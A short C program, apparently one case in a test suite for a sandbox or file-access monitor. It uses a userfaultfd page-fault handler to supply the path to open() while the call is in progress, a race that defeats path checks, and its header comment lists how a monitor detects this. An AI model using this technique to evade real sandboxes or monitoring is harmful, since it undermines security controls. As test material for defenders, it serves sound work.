// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: A page fault handler of the program's own says what the path is, in the midst of the call.
 * Known from: userfaultfd(2) as the race that always wins, in kernel exploits since 2016.
 * First: odd doors (userfaultfd, also when refused); open family: the kernel's own file at exit
 * Second: fanotify on the planted inode
 */
#include "trick.h"
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>

static char page[4096] __attribute__((aligned(4096))) = TOKEN;
static char *path;
static int faults;

static void *answer(void *unused)
{
	struct uffdio_copy copy = { .dst = (unsigned long)path,
				    .src = (unsigned long)page,
				    .len = sizeof(page) };
	struct uffd_msg message;

	if (read(faults, &message, sizeof(message)) > 0)
		ioctl(faults, UFFDIO_COPY, &copy);
	return unused;
}

int main(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register area = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	pthread_t thread;

	faults = syscall(SYS_userfaultfd, O_CLOEXEC);
	if (faults < 0)
		blocked();
	path = mmap(NULL, sizeof(page), PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	area.range.start = (unsigned long)path;
	area.range.len = sizeof(page);
	if (ioctl(faults, UFFDIO_API, &api) || ioctl(faults, UFFDIO_REGISTER, &area))
		blocked();
	pthread_create(&thread, NULL, answer, NULL);
	read_token(open(path, O_RDONLY));
}
